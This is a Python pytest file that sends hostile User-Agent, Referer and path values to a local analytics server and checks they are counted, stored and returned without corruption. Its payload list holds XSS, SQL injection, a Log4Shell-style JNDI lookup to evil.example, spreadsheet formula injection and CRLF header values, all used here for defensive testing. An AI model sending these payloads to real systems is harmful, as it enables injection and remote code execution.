"""What visitors send to do harm, and thousands of referrers, on their way through a real server into the statistics."""

import json
import socket
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest

from linnet.edge.visit import MAX_USER_AGENT
from tests.support.server import Server, running_server

HOSTILE = [
    b"<script>alert(document.cookie)</script>",
    b'"><img src=x onerror=alert(1)>',
    b"'; DROP TABLE clicks; --",
    b"{{7*7}} ${jndi:ldap://evil.example/a} %s %n",
    b"\xff\xfe\x80 no UTF-8",
    b"\xed\xa0\x80 half of a pair",
    "\u202egnirts sdrawkcab \u200f\u2066".encode(),
    "ＩＤ😀".encode(),
    b"a" * 6000,
    b"\\u0000 \\x00 \\",
    b"=cmd|' /C calc'!A0",
]
AGENTS = [b"Mozilla/5.0 (Windows NT 10.0) " + each for each in HOSTILE]
REFERRERS = [b"https://news.example/" + each for each in HOSTILE] + [b"https://" + each + b".example/" for each in HOSTILE]
# Bytes that no header may have, or far too many of them: refused, and no visit.
REFUSED = [b"a\x00b", b"a" * (64 << 10), b"a\rb", b"a\nb"]
DISTINCT = 10_000


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with running_server(tmp_path_factory.mktemp("hostile") / "linnet") as running:
        running.create("target")
        yield running


def visit(server: Server, target: bytes, **headers: bytes) -> bytes:
    """The status line of a visit whose headers are sent as they are."""
    lines = [b"GET " + target + b" HTTP/1.1", b"Host: " + server.host.encode(), b"Connection: close"]
    lines += [name.replace("_", "-").encode() + b": " + value for name, value in headers.items()]
    with socket.create_connection(("127.0.0.1", server.port), timeout=20) as connection:
        connection.sendall(b"\r\n".join(lines) + b"\r\n\r\n")
        received = b""
        while part := connection.recv(65536):
            received += part
    return received.partition(b"\r\n")[0]


def asked(server: Server, path: str, body: dict[str, Any]) -> Any:
    answer = server.api("POST", f"/statistics/{path}", {"period": "today"} | body)
    assert (answer.status, answer.headers["content-type"]) == (200, "application/json"), answer
    text = answer.body.decode("utf-8")
    assert not [letter for letter in text if "\ud800" <= letter <= "\udfff"]
    return json.loads(text)


def test_hostile_visits_are_counted_shown_and_found_again(server: Server):
    before = server.domain_clicks()
    made = [{"User_Agent": agent} for agent in AGENTS] + [{"Referer": referrer} for referrer in REFERRERS]
    paths = [b"/" + quote(each[:500], safe="").encode() for each in HOSTILE]
    paths += [b"/target?utm_source=" + quote(each).encode() for each in HOSTILE]
    statuses = [visit(server, b"/target", **headers).split()[1] for headers in made]
    statuses += [visit(server, path, User_Agent=AGENTS[0]).split()[1] for path in paths]
    counted = sum(status in (b"302", b"404") for status in statuses)
    assert counted > len(statuses) - 4, "all but those that are no path at all"
    server.wait(lambda: server.domain_clicks() == before + counted, "the hostile clicks", seconds=10)
    for column, key in (("refhost", "refhosts"), ("browser", "browsers"), ("utm_source", "utmSources"), ("path_404", "paths")):
        rows = asked(server, f"domain/{server.domain_id}/top", {"column": column, "limit": 1000})
        for row in rows:
            found = asked(server, f"domain/{server.domain_id}", {"include": {key: [row["column"]], "human": True}})
            assert found["clicks"] >= int(row["score"]), row
            prefixed = {"column": column, "prefix": row["column"][:1000], "limit": 1000}
            assert row in asked(server, f"domain/{server.domain_id}/top", prefixed)
    clicks = asked(server, f"domain/{server.domain_id}/last_clicks", {"limit": 1000})
    # Headers are bytes of no encoding that anybody names, and are told as Latin-1, in which none is lost.
    agents = {click["ua"].encode("latin-1") for click in clicks}
    assert {agent for agent in AGENTS if len(agent) < MAX_USER_AGENT} <= agents
    assert not [click for click in clicks if "\x00" in json.dumps(click, ensure_ascii=False)]
    sources = {row["column"] for row in asked(server, f"domain/{server.domain_id}/top", {"column": "utm_source", "limit": 99})}
    assert {HOSTILE[0].decode(), HOSTILE[2].decode()} <= sources


@pytest.mark.parametrize("value", REFUSED, ids=["NUL", "64 KiB", "CR", "LF"])
@pytest.mark.parametrize("name", ["User_Agent", "Referer"])
def test_what_no_header_may_hold_is_refused_or_cut_and_the_statistics_go_on(server: Server, name: str, value: bytes):
    before = server.domain_clicks()
    status = visit(server, b"/target", **{name: value})
    assert status == b"" or status.split()[1] in (b"302", b"400", b"413", b"431"), status
    assert visit(server, b"/target", **{name: b"fine"}).split()[1] == b"302"
    server.wait(lambda: server.domain_clicks() >= before + 1, "the click after it", seconds=5)
    assert asked(server, f"domain/{server.domain_id}/last_clicks", {"limit": 5})


def test_ten_thousand_referrers_are_all_there(server: Server):
    server.api("DELETE", f"/statistics/domain/{server.domain_id}/statistics")
    server.wait(lambda: server.domain_clicks() == 0, "the clearing", seconds=5)
    with socket.create_connection(("127.0.0.1", server.port), timeout=60) as connection:
        for first in range(0, DISTINCT, 100):
            head = b"GET /target HTTP/1.1\r\nHost: %b\r\nUser-Agent: %b\r\nReferer: https://r%d.example/\r\n\r\n"
            connection.sendall(
                b"".join(head % (server.host.encode(), AGENTS[0], number) for number in range(first, first + 100))
            )
            received = b""
            while received.count(b"HTTP/1.1 302") < 100:
                part = connection.recv(65536)
                assert part, received[-300:]
                received += part
    server.wait(lambda: server.domain_clicks() == DISTINCT, "ten thousand clicks", seconds=30)
    path = f"domain/{server.domain_id}"
    rows = asked(server, f"{path}/top", {"column": "refhost", "limit": DISTINCT})
    assert {row["column"] for row in rows} == {f"r{number}.example" for number in range(DISTINCT)}
    assert {row["score"] for row in rows} == {"1"}
    ten = [f"r{number}.example" for number in (0, 1, 10, 100, 1000, 1001, 1002, 1003, 1004, 1005)]
    assert [row["column"] for row in asked(server, f"{path}/top", {"column": "refhost"})] == ten
    assert len(asked(server, f"{path}/top", {"column": "refhost", "prefix": "r99", "limit": 1000})) == 111
    half = [f"r{number}.example" for number in range(1000)]
    assert asked(server, path, {"include": {"refhosts": half}})["clicks"] == 1000
    assert asked(server, path, {"exclude": {"refhosts": half}})["clicks"] == 9000
